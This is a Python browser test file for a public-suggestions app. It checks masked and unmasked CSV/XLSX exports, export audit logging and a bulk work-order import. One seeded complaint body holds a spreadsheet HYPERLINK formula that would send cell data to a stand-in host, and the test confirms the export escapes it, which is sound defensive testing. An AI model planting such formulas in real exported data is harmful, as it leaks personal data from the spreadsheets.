"""Exports and the work-order import through a real gunicorn: make run's demo data, and a database with many rows."""

from __future__ import annotations

import csv
import io
import random
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa

from app import create_app
from suggestions import clock
from suggestions.extensions import db
from suggestions.models import AuditEntry, Category, Department, District, ImportJob, Suggestion
from suggestions.privacy.vault import mask_phone
from suggestions.workflow import Channel
from tests.browser.conftest import login, serve
from tests.conftest import make_config
from tests.suggestions.intake.work_orders import GOOD, many, xlsx_bytes

pytestmark = [pytest.mark.browser]

ROWS = 3000
HEADER = [
    "追踪码",
    "受理时间",
    "渠道",
    "状态",
    "时限",
    "征集年度",
    "领域",
    "类别",
    "承办部门",
    "所在区",
    "标题",
    "内容",
    "联系人",
    "联系电话",
]


def csv_table(body: bytes) -> list[list[str]]:
    assert body.startswith("\ufeff".encode()), "UTF-8 with BOM"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_table(body: bytes) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(body), read_only=True).active
    # A row ends at its last filled cell; pad it to the header's width.
    return [
        (["" if v is None else v for v in row] + [""] * len(HEADER))[: len(HEADER)]
        for row in sheet.iter_rows(values_only=True)
    ]


def sign_in(page, base_url, username, password):
    page.goto(base_url + "/login")
    page.fill("#username", username)
    page.fill("#password", password)
    page.click("main button[type=submit]")
    page.wait_for_load_state()
    assert "/login" not in page.url


def test_a_dispatcher_downloads_csv_and_xlsx_of_the_demo_queue(demo_site, desk_page):
    """make run's demo data under gunicorn: the export that used to answer 500 (DetachedInstanceError)."""
    base_url, accounts = demo_site
    sign_in(desk_page, base_url, "dispatcher", accounts["dispatcher"])
    desk_page.goto(base_url + "/queue")
    shown = int(desk_page.locator("h1 .count").inner_text())
    assert shown > 0
    for fmt, read in (("csv", csv_table), ("xlsx", xlsx_table)):
        response = desk_page.request.get(f"{base_url}/queue/export.{fmt}")
        assert response.status == 200, response.text()[:500]
        rows = read(response.body())
        assert rows[0] == HEADER and len(rows) - 1 == shown
        assert all("****" in str(row[13]) or row[13] in ("", "保密") for row in rows[1:])


@pytest.fixture(scope="module")
def busy_site(tmp_path_factory, tiny_model_path):
    """gunicorn on a database holding ROWS open suggestions (bulk-loaded, with encrypted phone numbers)."""
    tmp = tmp_path_factory.mktemp("exchange")
    with serve(tmp, tiny_model_path) as (server, env):
        app = create_app(make_config(env["DATABASE_URL"], tiny_model_path))
        with app.app_context():
            vault = app.extensions["phone_vault"]
            rng = random.Random(3)
            departments = db.session.scalars(sa.select(Department.id)).all()
            categories = db.session.scalars(sa.select(Category.id)).all()
            districts = db.session.scalars(sa.select(District.id)).all()
            now = clock.now()
            rows = []
            for number in range(ROWS):
                phone = f"139{number:08d}"
                body = f"第{number}条：小区周边道路破损，雨后积水严重，建议尽快维修并完善排水设施。" * 4
                rows.append(
                    {
                        "tracking_code": f"JDZ-2026-{number:010d}",
                        "code_year": 2026,
                        "channel": Channel.WEB.value,
                        "status": "dispatched",
                        "title": "道路维修",
                        "body": ('=HYPERLINK("http://example.invalid/?"&N2) ' if number == 7 else "") + body,
                        "district_id": rng.choice(districts),
                        "category_id": rng.choice(categories),
                        "department_id": rng.choice(departments),
                        "contact_name": "王小明",
                        "phone_ciphertext": vault.encrypt(phone),
                        "phone_masked": mask_phone(phone),
                        "access_hash": "x$y",
                        "received_at": now - timedelta(minutes=number),
                        "created_at": now,
                        "due_at": now + timedelta(days=3),
                        "urgency": "general",
                        "return_count": 0,
                        "designated": False,
                        "extension_count": 0,
                        "callback_attempts": 0,
                    }
                )
            db.session.execute(sa.insert(Suggestion), rows)
            db.session.commit()
        yield server, app


def test_exports_of_many_rows_through_gunicorn(busy_site, desk_page):
    server, app = busy_site
    base_url = server.url
    login(desk_page, base_url, server.users["dispatcher"])
    masked = {}
    for fmt, read in (("csv", csv_table), ("xlsx", xlsx_table)):
        response = desk_page.request.get(f"{base_url}/queue/export.{fmt}")
        assert response.status == 200
        rows = read(response.body())
        masked[fmt] = rows
        assert rows[0] == HEADER and len(rows) == ROWS + 1
        assert {row[12] for row in rows[1:]} == {"王**"} and all(row[13].startswith("139****") for row in rows[1:])
        formula = [row[11] for row in rows[1:] if "HYPERLINK" in row[11]]
        assert len(formula) == 1 and formula[0].startswith("'=HYPERLINK")
    assert masked["csv"] == [[str(value) for value in row] for row in masked["xlsx"]]
    with app.app_context():
        entries = db.session.scalars(
            sa.select(AuditEntry).where(AuditEntry.action == "export").order_by(AuditEntry.id)
        ).all()
        assert [(e.details["format"], e.details["rows"], e.details["outcome"]) for e in entries] == [
            ("csv", 0, "started"),
            ("csv", ROWS, "complete"),
            ("xlsx", 0, "started"),
            ("xlsx", ROWS, "complete"),
        ]


def test_unmasked_xlsx_export_through_gunicorn(busy_site, desk_page):
    server, app = busy_site
    base_url = server.url
    login(desk_page, base_url, server.users["admin"])
    desk_page.goto(base_url + "/queue?q=道路")
    desk_page.locator("details summary").click()
    desk_page.fill("#export-reason", "纪检部门调阅，文号2026-18")
    with desk_page.expect_download() as download:
        desk_page.get_by_role("button", name="导出 Excel").click()
    rows = xlsx_table(Path(download.value.path()).read_bytes())
    assert len(rows) == ROWS + 1 and rows[1][12] == "王小明" and rows[1][13].startswith("139")
    with app.app_context():
        entry = db.session.scalars(
            sa.select(AuditEntry).where(AuditEntry.action == "export_unmasked").order_by(AuditEntry.id)
        ).all()[-1]
        assert entry.reason == "纪检部门调阅，文号2026-18"
        assert (entry.details["rows"], entry.details["outcome"], entry.details["filters"]) == (
            ROWS,
            "complete",
            {"q": "道路"},
        )


def test_admin_uploads_work_orders_through_gunicorn_and_watches_the_progress(busy_site, desk_page, tmp_path):
    server, app = busy_site
    base_url = server.url
    path = tmp_path / "工单.xlsx"
    rows = many(300, prefix="LIVE") + GOOD + [["GD-X", "2026-11-01 09:30", "", "", "太短", "和平区", "", "", "", ""]]
    path.write_bytes(xlsx_bytes(rows))
    login(desk_page, base_url, server.users["admin"])
    desk_page.goto(base_url + "/admin/imports")
    desk_page.set_input_files("#file", str(path))
    desk_page.get_by_role("button", name="上传并处理").click()
    desk_page.wait_for_load_state()
    assert "/admin/imports/" in desk_page.url
    # The page refreshes itself (no JavaScript needed) until the job is done.
    desk_page.wait_for_selector("text=已完成", timeout=120_000)
    text = desk_page.locator("main").inner_text()
    assert "已处理 304 / 304 行" in text and "下载错误报告" in text
    with app.app_context():
        job = db.session.scalar(sa.select(ImportJob).order_by(ImportJob.id.desc()))
        assert (job.state, job.created, job.invalid) == ("done", 303, 1)
        imported = db.session.scalar(
            sa.select(sa.func.count(Suggestion.id)).where(Suggestion.channel == Channel.HOTLINE)
        )
        assert imported == 303
    with desk_page.expect_download() as download:
        desk_page.get_by_role("link", name="下载错误报告（行号和原因）").click()
    report = Path(download.value.path()).read_text(encoding="utf-8-sig")
    assert report.splitlines()[1].startswith("305,GD-X,")
